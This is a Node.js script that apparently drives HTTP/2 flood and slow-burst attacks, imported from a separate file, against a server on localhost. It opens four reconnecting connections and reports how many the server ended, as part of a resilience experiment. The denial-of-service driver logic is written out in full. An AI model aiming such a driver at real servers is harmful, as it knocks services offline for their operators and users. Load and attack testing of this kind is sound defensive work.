/**
 * One attack of http2-bursts.mjs from several connections, each of which comes again when it is ended:
 *
 *   node http2-attacker.mjs PORT MS NAME
 *
 * For `MS` milliseconds, and beyond until at least one was ended of an attack that is a flood. Then nothing more is sent, and what it
 * prints is `{ connections, ended, left }`: those it had, those that were ended meanwhile, and those that were there yet when they had had
 * all the time that they may need.
 */
import { once } from 'node:events';
import net from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { PREFACE, settings } from '../http2-frames.mjs';
import { ATTACKS } from './http2-bursts.mjs';

const CONNECTIONS = 4;
const FIRST_END_MS = 10_000;
/** The timeouts of the experiment end whatever waits, one after the other, well before. */
const LEAVING_MS = 10_000;

const [port, ms] = process.argv.slice(2, 4).map(Number);
const attack = ATTACKS.find(({ name }) => name === process.argv[4]);
const open = new Set();
let connections = 0;
let ended = 0;

// An attacker has processors of its own; here it takes what is left of those of the attacked.
setPriority(constants.priority.PRIORITY_LOW);

const beginMs = performance.now();

function isOver() {
  const passedMs = performance.now() - beginMs;
  if (passedMs < ms) return false;
  return !attack.isFlood || ended > 0 || passedMs > FIRST_END_MS;
}

/** @returns {Promise<net.Socket | null>} null: nobody takes it */
async function connect() {
  const socket = net.connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => {});
  open.add(socket);
  socket.on('close', () => open.delete(socket));
  // What comes is not looked at, and its end is ours.
  socket.resume();
  const isOpen = await once(socket, 'connect').then(
    () => true,
    () => false,
  );
  return isOpen ? socket : null;
}

const isGone = (socket) => socket.destroyed || socket.readableEnded;

/** Until there is room for more, it is gone, or the time is over. */
async function untilRoom(socket) {
  await new Promise((resolve) => setImmediate(resolve));
  while (socket.writableNeedDrain && !isGone(socket) && !isOver()) await sleep(1);
}

async function attackOnce() {
  const socket = await connect();
  if (socket === null) return;
  connections++;
  socket.write(Buffer.concat([PREFACE, settings(attack.settings)]));
  for (let round = 0; !isGone(socket) && !isOver(); round++) {
    if (round === 0 || !attack.isPatient) socket.write(attack.burst(round));
    if (attack.isPatient) await sleep(10);
    else await untilRoom(socket);
  }
  if (isGone(socket)) ended++;
}

async function attackOn() {
  while (!isOver()) await attackOnce();
}

await Promise.all(Array.from({ length: CONNECTIONS }, attackOn));
const overMs = performance.now();
while (open.size > 0 && performance.now() - overMs < LEAVING_MS) await sleep(10);
process.stdout.write(JSON.stringify({ connections, ended, left: open.size }));
process.exit();
